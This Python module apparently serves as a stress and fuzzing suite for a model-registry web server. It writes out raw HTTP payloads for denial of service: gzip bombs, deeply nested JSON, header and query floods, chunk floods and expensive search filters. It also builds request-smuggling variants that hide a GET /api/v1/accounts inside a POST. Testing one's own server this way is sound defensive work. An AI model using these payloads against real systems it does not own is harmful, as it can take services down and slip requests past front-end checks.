"""Requests of somebody who would like a server to do nothing else: what is sent and not waited for."""

import zlib
from collections.abc import Callable, Iterable, Mapping
from typing import Final, NamedTuple
from urllib.parse import quote

LONG: Final = b"a" * 1_000_000
JSON: Final = b"Content-Type: application/json"
FORM: Final = b"Content-Type: application/x-www-form-urlencoded"
CHUNKED: Final = b"Transfer-Encoding: chunked"
NOTE: Final = b"/api/v1/note"
WRITTEN: Final = b"/models/mower/do/note"
_FILE: Final = b"Content-Type: application/octet-stream"
_GZIP: Final = b"Content-Encoding: gzip"
_UPLOAD: Final = b"/api/v1/register-file?model=mower&path=x.bin"


class Target(NamedTuple):
    """Whom to attack, as whom."""

    host: str
    port: int
    token: str

    def head(self, method: bytes, target: bytes, *headers: bytes) -> bytes:
        """Write the head of a request, its blank line too."""
        own = [f"Host: {self.host}:{self.port}", f"Authorization: Bearer {self.token}"]
        lines = (method + b" " + target + b" HTTP/1.1", *(h.encode() for h in own), *headers)
        return b"\r\n".join([*lines, b"", b""])

    def get(self, target: bytes, *headers: bytes) -> bytes:
        """Write a request that is the last of its connection."""
        return self.head(b"GET", target, *headers, b"Connection: close")

    def post(self, target: bytes, body: bytes, *headers: bytes) -> bytes:
        """Write one with a body."""
        length = b"Content-Length: %d" % len(body)
        return self.head(b"POST", target, length, b"Connection: close", *headers) + body


Shots = Callable[[Target], Iterable[bytes]]


def _long_texts(to: Target) -> Iterable[bytes]:
    yield to.get(b"/" + LONG)
    yield to.get(b"/api/v1/resolve?ref=" + LONG)
    yield to.get(b"/models", b"X-Long: " + LONG)
    yield to.get(b"/models", LONG + b": x")
    yield to.get(b"/models", b"Cookie: registry_session=" + LONG)
    yield to.get(b"/models", b"Range: bytes=" + LONG)
    yield to.head(LONG, b"/models")
    for target in (NOTE, b"/api/v1/promote", b"/api/v1/run/begin", b"/api/v1/account/add"):
        for name in (b"subject", b"text", b"ref", b"model", b"key", LONG):
            yield to.post(target, b'{"%s": "%s"}' % (name, LONG), JSON)
    note = b'{"subject": "mower@1", "text": "%s"}' % LONG
    yield to.post(NOTE, note, JSON)
    yield to.post(WRITTEN, b"text=" + LONG, FORM)
    yield to.post(b"/login", b"token=" + LONG, FORM)
    yield to.post(_UPLOAD + b"&description=" + LONG[:40_000], b"x", _FILE)


def _deep_json(to: Target) -> Iterable[bytes]:
    wide = 4_000_000
    for body in (
        b"[" * 20_000 + b"]" * 20_000,
        b'{"a":' * 20_000 + b"1" + b"}" * 20_000,
        b"[" + b"[]," * (wide // 3) + b"1]",
        b'{"subject": "mower@1", "put": [' + b"[]," * 49_000 + b"1]}",
        b'{"subject": "mower@1", "remove": [' + b"1," * 90_000 + b"1]}",
        b"{" + b",".join(b'"k%d":{}' % n for n in range(49_000)) + b"}",
        b'{"run": "x", "points": {"a": [' + b"[1,2]," * (wide // 6) + b"[1,2]]}}",
        b'{"text": [' + b'{"a":1},' * 200_000 + b"1]}",
        b"{" + b'"a":1,' * 300_000 + b'"b":1}',
        b'{"subject": ' + b"9" * 100_000 + b"}",
        b'{"subject": "mower@1", "text": "' + b"\\ud83d\\ude00" * 300_000 + b'"}',
        b" " * 5_000_000,
    ):
        for target in (NOTE, b"/api/v1/tag", b"/api/v1/run/log"):
            yield to.post(target, body, JSON)


def _wrong_multipart(to: Target) -> Iterable[bytes]:
    part = b'--x\r\nContent-Disposition: form-data; name="text"\r\n\r\n'
    for kind in (
        b"multipart/form-data; boundary=x",
        b"multipart/form-data",
        b"multipart/mixed;" * 99,
    ):
        for body in (part * 10_000, b"--" * 200_000, part + LONG):
            for target in (NOTE, _UPLOAD, WRITTEN, b"/login"):
                yield to.post(target, body, b"Content-Type: " + kind)


def _many_ranges(to: Target) -> Iterable[bytes]:
    ranges = b",".join(b"%d-%d" % (n, n + 10) for n in range(500))
    for asked in (ranges, b"0-," * 500 + b"0-", b"-" + b"9" * 400, b"9-0"):
        for name in (b"", b"&name=model.bin"):
            target = b"/api/v1/file?ref=mower@1" + name
            yield to.get(target, b"Range: bytes=" + asked)


def _bombs(to: Target) -> Iterable[bytes]:
    packer = zlib.compressobj(9, wbits=31)
    zeros = b" " * 1_000_000
    bomb = b"".join([packer.compress(zeros) for _ in range(50)]) + packer.flush()
    for headers in ((_GZIP,), (), (b"Content-Encoding: deflate, gzip",), (b"Content-Encoding: x",)):
        yield to.post(NOTE, bomb, JSON, *headers)
        yield to.post(WRITTEN, bomb, FORM, *headers)
        yield to.post(b"/login", bomb, FORM, *headers)
    yield to.post(_UPLOAD, bomb, _FILE, _GZIP)
    packed = to.head(b"POST", NOTE, JSON, b"Transfer-Encoding: gzip, chunked")
    yield packed + b"%x\r\n%s\r\n0\r\n\r\n" % (len(bomb), bomb)


def _huge_heads(to: Target) -> Iterable[bytes]:
    yield to.get(b"/models", *[b"a:b"] * 15_000)
    yield to.get(b"/models", *[b"a:b\r\n c"] * 8_000)
    yield to.get(b"/models", b"X: " + b"a" * 90_000)
    yield to.get(b"/models", b"Cookie: " + b"a=b;" * 20_000)
    yield to.get(b"/models", b"Cookie: " + b"a=b;" * 8_000)
    yield to.get(b"/api/v1/models", b"If-None-Match: " + b'"x",' * 7_000)
    yield to.post(NOTE, b"{}", JSON, b"If-Match: " + b'"x",' * 7_000)
    yield b"GET / HTTP/1.1\r\n" + b"\n" * 50_000
    yield b"\x16\x03\x01" + b"\x00" * 90_000


def _crumbs(to: Target) -> Iterable[bytes]:
    """Chunks of one byte, and of hardly more."""
    for target, kind in ((NOTE, JSON), (WRITTEN, FORM), (_UPLOAD, _FILE), (b"/models", JSON)):
        head = to.head(b"POST", target, kind, CHUNKED)
        yield head + b"1\r\na\r\n" * 40_000
        yield head + b"1;" + b"x" * 50 + b"\r\na\r\n" * 5_000
        yield head + b"0\r\n" + b"a:b\r\n" * 15_000


def _smuggled(to: Target) -> Iterable[bytes]:
    inner = to.head(b"GET", b"/api/v1/accounts")
    chunked = b"0\r\n\r\n" + inner
    for headers in (
        (b"Content-Length: %d" % len(chunked), CHUNKED),
        (CHUNKED, b"Content-Length: 5"),
        (b"Content-Length: 5", b"Content-Length: %d" % len(chunked)),
        (b"Content-Length: 5, 6",),
        (b"Content-Length: +5",),
        (b"Content-Length: -1",),
        (b"Content-Length: " + b"9" * 19,),
        (b"Content-Length: " + b"9" * 5000,),
        (b"Transfer-Encoding: xchunked",),
        (b"Transfer-Encoding: chunked, identity",),
        (CHUNKED, CHUNKED),
        (b"Transfer-Encoding : chunked",),
        (b"Transfer-Encoding:\tchunked",),
        (b"Transfer-Encoding:\x0bchunked",),
        (b" Transfer-Encoding: chunked",),
        (b"X: y\nTransfer-Encoding: chunked",),
        (b"Content_Length: 3",),
    ):
        yield to.head(b"POST", NOTE, JSON, *headers) + chunked
    head = to.head(b"POST", NOTE, JSON, CHUNKED)
    for size in (b"-1", b"f" * 16, b"f" * 40, b"0x5", b"5 ", b"\x00", b""):
        yield head + size + b"\r\nhello\r\n0\r\n\r\n"
    yield to.head(b"GET", b"/models", b"Content-Length: %d" % len(inner)) + inner
    yield b"POST /api/v1/note HTTP/9.9\r\n\r\n"
    yield b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def _pipelined(to: Target) -> Iterable[bytes]:
    yield to.head(b"GET", b"/health") * 2_000 + to.get(b"/health")
    yield to.head(b"GET", b"/api/v1/resolve?ref=mower@1") * 300 + to.get(b"/health")
    note = to.post(NOTE, b"{}", JSON).replace(b"Connection: close\r\n", b"")
    yield note * 200 + to.get(b"/health")


def _giant_queries(to: Target) -> Iterable[bytes]:
    yield to.get(b"/api/v1/compare?" + b"refs=mower@1&" * 3_000)
    yield to.get(b"/api/v1/curves?refs=mower@1&" + b"series=a&" * 1_500)
    yield to.get(b"/api/v1/history?limit=1000")
    yield to.get(b"/api/v1/history?" + b"kinds=x&" * 1_900)
    yield to.get(b"/history?" + b"kind=x&" * 5_000)
    yield to.get(b"/models/mower?" + b"&" * 40_000)
    for path in (b"versions?model=mower&", b"history?", b"search/versions?filter=&", b"runs?"):
        for limit in (b"1000000000", b"9" * 4_400, b"-1", b"1e9", b"0x10"):
            yield to.get(b"/api/v1/" + path + b"limit=" + limit)
    yield to.get(b"/api/v1/dataset/lineage?dataset=data.csv&depth=999999999")


def _dear_searches(to: Target) -> Iterable[bytes]:
    likes = " or ".join(f"description like '%a%b%c%{n}%'" for n in range(400))
    keys = " and ".join(f"params.a{n} != {n}" for n in range(400))
    for text in (
        "(" * 5_000 + "number > 0" + ")" * 5_000,
        "not " * 5_000 + "number > 0",
        " or ".join(["number > 0"] * 3_000),
        likes,
        keys,
        "description like '" + "%a" * 5_000 + "'",
        "number in (" + ",".join(map(str, range(4_000))) + ")",
        "tags.team like '%'" + " and not (description like '%x%y%')" * 50,
    ):
        asked = quote(text).encode()
        for path in (b"/api/v1/search/versions?filter=", b"/models/mower?q=", b"/models?q="):
            yield to.get(path + asked)


def _huge_forms(to: Target) -> Iterable[bytes]:
    for target in (WRITTEN, b"/login", b"/access/accounts/add"):
        yield to.post(target, b"&".join([b"a=b"] * 1_000_000), FORM)
        yield to.post(target, b"&".join([b"a=b"] * 200_000), FORM)
        yield to.post(target, b"&".join([b"a=b"] * 1_100), FORM)
        yield to.post(target, b"%" * 900_000, FORM)
        yield to.post(target, b"text=" + b"%41" * 300_000, FORM)


SHOTS: Final[Mapping[str, Shots]] = {
    "long texts": _long_texts,
    "deep and wide JSON": _deep_json,
    "wrong multipart": _wrong_multipart,
    "500 ranges": _many_ranges,
    "compressed bombs": _bombs,
    "huge heads": _huge_heads,
    "bodies in crumbs": _crumbs,
    "smuggled requests": _smuggled,
    "pipelined requests": _pipelined,
    "giant queries": _giant_queries,
    "dear searches": _dear_searches,
    "huge forms": _huge_forms,
}
"""What is sent over one connection after the other, as fast as it is answered."""
